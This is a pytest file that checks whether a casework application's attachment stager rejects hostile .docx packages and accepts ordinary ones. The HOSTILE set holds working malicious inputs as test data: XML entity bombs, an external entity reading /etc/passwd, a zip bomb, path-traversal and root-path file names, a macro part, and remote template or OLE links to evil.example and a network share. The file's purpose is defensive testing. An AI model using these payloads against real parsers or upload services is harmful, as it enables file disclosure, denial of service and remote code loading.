"""Letters and workbooks put to a matter: what would harm whoever opens them is refused before it is kept."""

import io
import random
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from casework.core.errors import Invalid
from casework.matters import attachments

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
LETTER = b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body/></w:document>'
_ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
BOMB = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "aaaaaaaaaa">{_ENTITIES}]><l>&a8;</l>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" TargetMode="External" Target="{}"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)
UTF_16 = BOMB.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
RELS = "word/_rels/settings.xml.rels"

HOSTILE: Mapping[str, Mapping[str, bytes]] = {
    "an entity bomb": {"word/document.xml": BOMB.encode()},
    "the same in UTF-16": {"word/document.xml": UTF_16},
    "a file from outside": {"word/document.xml": OUTSIDE.encode()},
    "a document type behind a long comment": {
        "word/styles.xml": b"<?xml version='1.0'?><!--" + b"x" * 300_000 + b"--><!DOCTYPE a><a/>"
    },
    "a document type in another part": {"customXml/item1.xml": b"<!DOCTYPE a><a/>"},
    "a zip bomb": {"word/media/image1.emf": b"0" * 30_000_000},
    "a name that leads out": {"../../evil.txt": b"x"},
    "a name from the root": {"/etc/cron.d/evil": b"x"},
    "a name of another system": {"C:\\evil.txt": b"x"},
    "macros": {"word/vbaProject.bin": b"x"},
    "a template from the web": {RELS: RELATION.format("https://evil.example/a.dotm", "attachedTemplate").encode()},
    "a template of another machine": {RELS: RELATION.format("\\\\10.0.0.9\\a.dotm", "attachedTemplate").encode()},
    "an object from the web": {RELS: RELATION.format("mhtml:http://evil.example/a!x", "oleObject").encode()},
}
USUAL: Mapping[str, Mapping[str, bytes]] = {
    "a letter": {},
    "its template lies on a disk of the house": {
        RELS: RELATION.format("file:///C:\\Users\\he\\Normal.dotm", "attachedTemplate").encode()
    },
    "a part that is no XML and is opened by nobody": {"word/extra.xml": b"words"},
    "a link to a page": {RELS: RELATION.format("https://www.gov.example/", "hyperlink").encode()},
    "a picture": {"word/media/image1.png": random.Random(3).randbytes(2_000_000)},
}


def _package(more: Mapping[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {"[Content_Types].xml": TYPES, "word/document.xml": LETTER, **more}.items():
            package.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_letter_is_refused_and_leaves_nothing_behind(case: str, tmp_path: Path) -> None:
    with pytest.raises(Invalid) as refused:
        attachments.stage(io.BytesIO(_package(HOSTILE[case])), name="a.docx", folder=tmp_path)
    assert [each.code for each in refused.value.errors] == ["file_hostile"]
    assert not [each for each in tmp_path.rglob("*") if each.is_file()]


@pytest.mark.parametrize("case", USUAL)
def test_what_office_programs_write_is_kept(case: str, tmp_path: Path) -> None:
    staged = attachments.stage(io.BytesIO(_package(USUAL[case])), name="a.docx", folder=tmp_path)
    assert staged.name == "a.docx"


def test_a_sealed_letter_and_one_that_is_cut_are_refused(tmp_path: Path) -> None:
    whole = _package({})
    sealed = bytearray(whole)
    at = sealed.rfind(b"PK\x01\x02")
    sealed[at + 8] |= 1
    for broken in (bytes(sealed), whole[: len(whole) // 2]):
        with pytest.raises(Invalid, match="file_"):
            attachments.stage(io.BytesIO(broken), name="a.docx", folder=tmp_path)
